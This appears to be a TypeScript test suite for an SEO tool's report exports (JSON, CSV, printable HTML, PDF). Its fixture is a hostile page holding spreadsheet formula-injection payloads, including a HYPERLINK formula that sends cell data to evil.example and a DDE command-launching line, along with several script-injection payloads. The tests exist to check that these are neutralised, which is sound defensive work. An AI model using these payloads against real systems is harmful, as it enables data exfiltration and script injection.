import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { checklist } from '../src/seo/checks/checklist.ts'
import { type Client, createClient, type Problem } from './support/client.ts'
import { readCsv } from './support/csv.ts'
import { type Joined, joinSightline } from './support/join-sightline.ts'
import { type PageServer, startPageServer } from './support/page-server.ts'
import { makeReport, queueReport, reportsPath } from './support/reports.ts'
import { sharedPathOf } from './support/share-url.ts'

type Report = Awaited<ReturnType<typeof makeReport>>
type Node = DefaultTreeAdapterTypes.Node

/** Written by somebody who knows where reports end up. */
const hostile = `<!doctype html><html lang="en">
<title>=HYPERLINK("http://evil.example/?"&A1,"Click")</title>
<meta name="description" content='</p><script>alert(1)</script><img src=x onerror=alert(2)>'>
<h1>+cmd|' /C calc'!A0</h1><h4>@SUM(1+9)*cmd</h4><h2>-2+3</h2>
<a href="/about">=1+1</a><a href="javascript:alert(3)" title="'><svg onload=alert(4)>">Buy</a>
<img src="&quot;><script>alert(5)</script>"><p>A line\r\nand another, with "quotes".`

let sightline: Joined
let client: Client
let site: PageServer
let report: Report
before(async () => {
  sightline = await joinSightline()
  client = await createClient(sightline.seoUrl, sightline.key)
  site = await startPageServer()
  report = await makeReport(client, { url: site.put('/hostile.html', hostile) })
  assert.ok(report.results)
})
after(async () => {
  site.close()
  await sightline.stop()
})

async function exported(format: string) {
  const response = await fetch(`${client.baseUrl}${reportsPath}/${report.id}/export?format=${format}`, {
    headers: { authorization: `Bearer ${sightline.key}` },
  })
  assert.equal(response.status, 200)
  assert.equal(
    response.headers.get('content-disposition'),
    `attachment; filename="${new URL(report.url).hostname}-report-${report.generated_at?.slice(0, 10)}.${format}"`,
  )
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff')
  return { type: response.headers.get('content-type') ?? '', text: await response.text() }
}

test('JSON has the complete report', async () => {
  const { type, text } = await exported('json')
  assert.match(type, /^application\/json/)
  assert.deepEqual(JSON.parse(text), { url: report.url, generatedAt: report.generated_at, results: report.results })
})

test('CSV has a line for each finding, all with the same columns', async () => {
  const { type, text } = await exported('csv')
  assert.equal(type, 'text/csv; charset=utf-8')
  const [columns, ...lines] = readCsv(text)
  assert.ok(columns)
  for (const line of lines) assert.equal(line.length, columns.length)
  const ids = new Set(lines.map((line) => line[columns.indexOf('check')]))
  assert.deepEqual([...ids].toSorted(), checklist.map(({ check }) => check.id).toSorted())
  const findings = report.results?.checks.reduce((sum, { evidence }) => sum + Math.max(1, evidence.length), 0)
  assert.equal(lines.length, findings)
})

test('CSV has no cell that a spreadsheet would evaluate', async () => {
  const cells = readCsv((await exported('csv')).text).flat()
  assert.ok(
    cells.some((cell) => cell.includes('=HYPERLINK(')),
    'the hostile title is in it',
  )
  assert.ok(
    cells.some((cell) => cell.includes("'+cmd|")),
    'the hostile heading is in it',
  )
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
})

test('the printable page escapes hostile text', async () => {
  const { type, text } = await exported('html')
  assert.equal(type, 'text/html; charset=utf-8')
  const elements: string[] = []
  const attributes: string[] = []
  let words = ''
  const nodes: Node[] = [parse(text)]
  for (let node = nodes.pop(); node !== undefined; node = nodes.pop()) {
    if ('tagName' in node) {
      elements.push(node.tagName)
      attributes.push(...node.attrs.map(({ name, value }) => `${name}=${value}`))
    }
    if (node.nodeName === '#text' && 'value' in node) words += node.value
    if ('childNodes' in node) nodes.push(...node.childNodes.toReversed())
  }
  for (const odd of ['script', 'img', 'svg', 'iframe', 'form']) assert.ok(!elements.includes(odd), odd)
  for (const attribute of attributes) assert.doesNotMatch(attribute, /^on|^src=|^href=(?!https:)/)
  for (const shown of ['=HYPERLINK("http://evil.example/?"', '<script>alert(1)</script>', 'javascript:alert(3)']) {
    assert.ok(words.includes(shown), shown)
  }
  assert.match(text, /Content-Security-Policy" content="default-src 'none'/)
  assert.doesNotMatch(text, /<link|@import|url\(/, 'it needs nothing else')
})

test('a report without results returns an error', async () => {
  const url = site.put('/slow.html', (response) => setTimeout(() => response.end('<p>x'), 2_000))
  const { id } = await queueReport(client, { url })
  const { status, body } = await client.get<Problem>(`${reportsPath}/${id}/export?format=csv`)
  assert.equal(status, 409)
  assert.match(body.detail, /no results/)
})

test('an unknown format is rejected with the allowed ones', async () => {
  const { status, body } = await client.get<Problem>(`${reportsPath}/${report.id}/export?format=docx`)
  assert.equal(status, 422)
  assert.match(body.errors?.format?.[0] ?? '', /json, csv, html, pdf; found "docx"/)
})

test('a PDF file without a browser is refused, to the owner and to visitors of the shared page, with what to do', async () => {
  for (const path of [`${reportsPath}/${report.id}`, sharedPathOf(report.page)]) {
    const { status, body } = await client.get<Problem>(`${path}/export?format=pdf`)
    assert.equal(status, 422, path)
    assert.match(body.errors?.format?.[0] ?? '', /needs a browser.*SIGHTLINE_BROWSER=off/)
  }
})

test('visitors of a shared report can save it only as PDF', async () => {
  const { status, body } = await client.get<Problem>(`${sharedPathOf(report.page)}/export?format=csv`)
  assert.equal(status, 422)
  assert.match(body.errors?.format?.[0] ?? '', /pdf; found "csv"/)
})
